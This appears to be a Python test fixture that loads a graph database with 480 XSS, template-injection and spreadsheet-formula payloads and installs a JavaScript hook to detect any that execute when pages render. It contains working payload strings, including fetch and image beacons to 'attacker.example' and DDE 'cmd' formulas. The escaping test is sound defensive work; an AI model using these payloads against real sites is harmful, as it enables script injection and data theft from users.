"""480 names that would run as a script, a style, a template or a formula where somebody forgets to
escape them, a graph in which every text is one of them, and a hook that notices when one runs."""

from collections.abc import Iterator, Sequence
from itertools import cycle, product
from typing import Any

from graph import SCHEMA, open_store
from graph.model import Prop
from graph.write import GRAPH
from tests.town import Town, settle

# what runs: each leaves a mark that the hook or the tab sees
CALLS = (
    "alert({n})",
    "ran={n}",
    "eval('ran={n}')",
    "confirm`{n}`",
    "document.title='ran'+(ran={n})",
    "fetch('https://attacker.example/{n}')",
    "new Image().src='https://attacker.example/{n}'",
    "[].constructor.constructor('ran={n}')()",
)
# where a text may end up, and what would get out of there; {} is a call
CONTEXTS = (
    # elements
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\t>",
    "<script/x>{}</script>",
    "<script>{}//",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script type=module>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'/>",
    "<img/src=`x`/onerror={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text x=9 y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='javascript:{}'>",
    "<form><button formaction='javascript:{}' autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<style onload={}>*{{color:red}}</style>",
    "<marquee onstart={}>x</marquee>",
    "<a href='javascript:{}'>href</a>",
    "<template><img src=x onerror={}></template>",
    # out of an attribute, a comment, an element of text
    "\"><img src=x onerror={}>",
    "'><img src=x onerror={}>",
    "\" autofocus onfocus={} x=\"",
    "' autofocus onfocus={} x='",
    "` onmouseover={} x=`",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</noscript><img src=x onerror={}>",
    "</option></select><img src=x onerror={}>",
    "</table></div><script>{}</script>",
    # out of a script, of JSON in one
    "</script><script>{}</script>",
    "\"}}</script><script>{}</script>",
    "<!--<script>{}//",
    "'-{}-'",
    "\"-{}-\"",
    "\\'-{}//",
    "\u2028{}\u2029",
    "javascript:{}",
    "java\tscript:{}",
    # templates
    "{{{{{}}}}}",
    "{{% raw %}}{{{{{}}}}}",
    "${{{}}}",
    "<%= {} %>",
    # disguises
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "＜script＞{}＜/script＞",
    "\u202e<script>{}</script>\u202c",
)  # fmt: skip
# in a spreadsheet these run, or ask the network
FORMULAS = (
    "=cmd|' /C calc'!A{n}",
    "+cmd|' /C calc'!A{n}",
    "-cmd|' /C calc'!A{n}",
    "@SUM(1+{n})",
    "=HYPERLINK(\"http://attacker.example/{n}\")",
    "=WEBSERVICE(\"http://attacker.example/{n}\")",
    "\t=1+{n}",
    "＝1+{n}",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = (
    *(text.format(n=n) for n, text in enumerate(FORMULAS)),
    *(
        around.format(call.format(n=n))
        for n, (around, call) in enumerate(product(CONTEXTS[1:], CALLS), len(FORMULAS))
    ),
)  # fmt: skip

# runs before any script of a page: what a payload would do leaves a trace in `__ran`
HOOK = """(() => {
  const ran = [];
  Object.defineProperty(globalThis, "__ran", { value: ran });
  Object.defineProperty(globalThis, "ran", { set: (value) => ran.push(`ran=${value}`) });
  for (const name of ["alert", "confirm", "prompt", "fetch"]) {
    const own = globalThis[name];
    globalThis[name] = (...given) => {
      const ours = name === "fetch" && String(given[0]).startsWith("/v1/");
      if (ours) return own(...given);
      ran.push(`${name}(${given})`);
    };
  }
})()"""

# each kind with how many of it there are: all payloads where pages list many, else a share
KINDS = {
    "Chain": 12, "Segment": 48, "Product": 480, "Region": 24, "Enterprise": 480, "PartyOrg": 480,
    "MassOrg": 24, "Association": 24, "Department": 24, "University": 60, "Discipline": 24,
    "Industry": 24, "Offer": 24, "Order": 24, "Need": 24, "Resource": 60, "Project": 24,
    "Meeting": 24, "Activity": 24, "Policy": 24, "Site": 24, "Application": 24, "Target": 24,
}  # fmt: skip
MEMBERS = 40  # of enterprises one has been surveyed and owes a branch: plans are made of few
FEW = 4  # of a kind whose own pages are looked at


async def load(url: str) -> None:
    """The graph at the address holds nothing but payloads."""
    town = Town()
    for label, many in KINDS.items():
        for n in range(many):
            _node(town, label, n, _texts(n * 7))
    for number, (source, rel, target) in enumerate(_ends()):
        _links(town, source, rel, target, _texts(number))
    # the mark of a graph that was loaded, without which commands say that there is none
    mark = {"id": GRAPH, "run": "r1", "version": SCHEMA.version}
    town.changes.new_nodes["Vocabulary"] = [mark]
    async with open_store(url) as store:
        await store.define(SCHEMA)
        await settle(store, town.changes)


def id_of(label: str, n: int) -> str:
    """Ids are payloads too; those of the first two are plain, to find the pages by."""
    return f"{label}-{n}" if n < 2 else PAYLOADS[(n * (480 // KINDS[label])) % 480]


def _texts(start: int) -> Iterator[str]:
    return cycle(PAYLOADS[start % 480 :] + PAYLOADS[: start % 480])


def _node(town: Town, label: str, n: int, texts: Iterator[str]) -> None:
    """A node every text of which is a payload, and says to come from a file of that name."""
    name = PAYLOADS[(n * (480 // KINDS[label])) % 480]
    values = dict(_values(SCHEMA.node(label).props, texts))
    origin = f"r1|{_line(next(texts))}.csv|{_line(next(texts))}|2"
    town.add(label, id_of(label, n), name, **values | _whole(label, n) | {"origin": origin})
    if label == "Enterprise" and n % MEMBERS == 0:
        known: dict[str, Any] = {"operating": True, "surveyed": True, "formal_affiliated": 4}
        town.observe(label, id_of(label, n), "2026-01-01", **known)


def _whole(label: str, n: int) -> dict[str, Any]:
    """What decides whether and where a node is shown."""
    if label == "Segment":
        return {"position": ("上游", "中游", "下游", "配套")[n % 4], "order": n}
    return {"raised_on": "2026-01-01"} if label == "Order" else {}


def _values(props: Sequence[Prop], texts: Iterator[str]) -> Iterator[tuple[str, Any]]:
    for prop in props:
        if prop.system or prop.name in ("id", "name") or prop.sensitivity == "refused":
            continue
        if prop.type == "text":
            yield prop.name, prop.choices[0].value if prop.choices else next(texts)
        elif prop.type == "texts":
            yield prop.name, [next(texts), next(texts)]


def _line(text: str) -> str:
    """A text as it may stand in an origin, which is one line."""
    return " ".join(text.replace("|", "/").split())


def _ends() -> Iterator[tuple[str, str, str]]:
    for rel in SCHEMA.rels:
        for source, target in rel.ends:
            if source in KINDS and target in KINDS:
                yield source, rel.type, target


def _links(town: Town, source: str, rel: str, target: str, texts: Iterator[str]) -> None:
    """Every node of the one kind leads to one of the other; enterprises to the first chain all."""
    props = [prop for prop in SCHEMA.rel(rel).props if prop.name != "until"]
    for n in range(KINDS[source]):
        at = (n * 7 + 1) % KINDS[target]
        if target == "Chain" and n % 4 != 1 and source in ("Enterprise", "Segment"):
            at = 0
        if (source, n) != (target, at):
            ends = (source, id_of(source, n)), (target, id_of(target, at))
            town.link(ends[0], rel, ends[1], **dict(_values(props, texts)))
    if target == "Region" and source in ("Enterprise", "University"):
        for n in range(KINDS[source]):  # one region in which all of them lie
            town.link((source, id_of(source, n)), rel, ("Region", id_of("Region", 0)))
